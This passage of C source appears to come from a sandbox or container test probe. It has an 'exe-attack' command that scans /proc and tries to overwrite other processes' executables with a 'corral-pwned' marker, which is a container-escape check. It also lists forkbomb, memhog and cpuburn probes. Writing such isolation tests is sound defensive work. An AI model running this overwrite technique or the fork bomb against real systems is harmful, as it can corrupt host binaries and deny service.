    require_test_container("exe-attack");
    struct stat self;
    if (stat("/proc/self/exe", &self) != 0)
        die("stat /proc/self/exe");
    pid_t me = getpid();
    struct exe_target targets[32];
    int ntargets = 0, fifo_fd = -1;
    long denied = 0;
    signal(SIGTERM, stop_exe_attack); /* we may be pid 1: only handled signals arrive */
    printf("ready\n");
    fflush(stdout);
    double deadline = clock_seconds(CLOCK_MONOTONIC) + seconds;
    bool written = false;
    while (!exe_attack_stop && !written && clock_seconds(CLOCK_MONOTONIC) < deadline) {
        DIR *proc = opendir("/proc");
        if (!proc)
            die("opendir /proc");
        for (struct dirent *e; (e = readdir(proc)) && ntargets < 32;) {
            char *pend;
            long pid = strtol(e->d_name, &pend, 10);
            if (*pend || pid <= 0 || pid == me)
                continue;
            bool known = false;
            for (int i = 0; i < ntargets; i++)
                known |= targets[i].pid == pid;
            if (known)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    denied++;
                continue;
            }
            struct stat st, at_path;
            char exe[PATH_MAX];
            ssize_t n = readlink(path, exe, sizeof exe - 1);
            exe[n < 0 ? 0 : n] = '\0';
            bool ours = fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                        (n > 0 && stat(exe, &at_path) == 0 && at_path.st_dev == st.st_dev &&
                         at_path.st_ino == st.st_ino);
            if (ours) {
                close(fd);
                continue;
            }
            struct exe_target *t = &targets[ntargets++];
            t->pid = (int)pid;
            t->fd = fd;
            snprintf(t->exe, sizeof t->exe, "%s", exe);
            t->write = NULL;
            t->final = false;
            if (fifo && fifo_fd < 0)
                fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        }
        closedir(proc);
        for (int i = 0; i < ntargets; i++) {
            struct exe_target *t = &targets[i];
            if (t->final)
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", t->fd);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                t->write = errno_name(errno);
                t->final = errno != ETXTBSY;
            } else {
                static const char mark[] = "#!corral-pwned\n";
                ssize_t n = pwrite(w, mark, sizeof mark - 1, 0);
                t->write = n == (ssize_t)(sizeof mark - 1) ? "OK" : errno_name(n < 0 ? errno : EIO);
                t->final = true;
                written |= n > 0;
                close(w);
            }
        }
        usleep(2000);
    }
    json_begin_object(NULL);
    json_begin_array("targets");
    for (int i = 0; i < ntargets; i++) {
        json_begin_object(NULL);
        json_int("pid", targets[i].pid);
        json_str("exe", targets[i].exe);
        json_str("write", targets[i].write);
        json_end_object();
    }
    json_end_array();
    json_int("denied", denied);
    json_end_object();
    if (fifo_fd >= 0)
        close(fifo_fd);
    return 0;
}

/* ------------------------------------------------------------------------ */

static const struct command {
    const char *name;
    int (*run)(int argc, char **argv);
} commands[] = {
    {"report", cmd_report}, {"exit", cmd_exit},       {"sleep", cmd_sleep},   {"signals", cmd_signals},
    {"cat", cmd_cat},       {"write", cmd_write},     {"read", cmd_read},     {"stat", cmd_stat},
    {"tty", cmd_tty},       {"fds", cmd_fds},         {"env", cmd_env},       {"memhog", cmd_memhog},
    {"cpuburn", cmd_cpuburn}, {"forkbomb", cmd_forkbomb}, {"mounts", cmd_mounts}, {"sysctl", cmd_sysctl},
    {"whoami", cmd_whoami},
    {"try", cmd_try},       {"cwd", cmd_cwd},         {"exe-attack", cmd_exe_attack},
};

int main(int argc, char **argv)
{
    const char *name = argc > 1 ? argv[1] : "report";
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
        if (!strcmp(name, commands[i].name)) {
            int status = commands[i].run(argc, argv);
            if (fflush(stdout) != 0)
                die("write stdout");
            return status;
        }
    fprintf(stderr, "probe: unknown command '%s'; commands:", name);
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
        fprintf(stderr, " %s", commands[i].name);
    fputs("\n", stderr);
    return 2;
}
